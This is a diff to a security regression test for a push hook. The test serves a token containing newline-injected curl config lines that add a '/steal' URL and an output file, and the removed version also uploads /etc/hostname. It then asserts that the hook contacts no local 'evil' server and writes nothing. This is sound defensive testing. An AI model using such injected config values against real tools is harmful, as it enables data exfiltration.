@@ -6,7 +6,7 @@
 import { spawn } from 'node:child_process';
 import fs from 'node:fs';
 import http from 'node:http';
-import type { AddressInfo } from 'node:net';
+import net, { type AddressInfo } from 'node:net';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import { DEFAULT_ARCHES } from '../../src/arch.js';
@@ -45,9 +45,19 @@ async function server(answer: (req: http.IncomingMessage, res: http.ServerRespon
 
 describe('a hostile token server', () => {
   it('a token with (escaped) newlines and config lines cannot make the hook send anything anywhere', async () => {
-    const evil = await server((_q, res) => res.end('stolen'));
+    // Any connection at all to this address counts (a raw TCP server: it also sees requests an
+    // HTTP server would reject).
+    const evilHits: string[] = [];
+    const evilSrv = net.createServer((c) => {
+      evilHits.push('connection');
+      c.end('HTTP/1.1 200 OK\r\ncontent-length: 6\r\n\r\nstolen');
+    });
+    await new Promise<void>((r) => evilSrv.listen(0, '127.0.0.1', r));
+    const evil = { url: `http://127.0.0.1:${(evilSrv.address() as AddressInfo).port}`, stop: () => new Promise<void>((r) => evilSrv.close(() => r())) };
     const loot = path.join(tmpDir('cmh-loot-'), 'written-by-token');
-    const token = `abc"\nurl = "${evil.url}/steal"\nupload-file = "/etc/hostname"\noutput = "${loot}"\nheader = "X: y`;
+    // Read by the old hook as curl config lines: a second URL, then a harmless option that takes
+    // the closing quote (it made that GET /steal, shown by this test on the old runtime).
+    const token = `abc\nurl = ${evil.url}/steal\noutput = ${loot}\nuser-agent = "z`;
     const tokens = await server((_q, res) => {
       res.setHeader('content-type', 'application/json');
       res.end(JSON.stringify({ token, access_token: token }));
@@ -62,7 +72,7 @@ describe('a hostile token server', () => {
       const r = await runHook(hooksDir(), 'post_push', env);
       expect(r.code).toBe(1);
       expect(tokens.hits.length, 'the token was never asked for: the test proves nothing').toBeGreaterThan(0);
-      expect(evil.hits).toEqual([]);
+      expect(evilHits).toEqual([]);
       expect(fs.existsSync(loot)).toBe(false);
       expect(r.out).not.toContain('stolen');
     } finally {
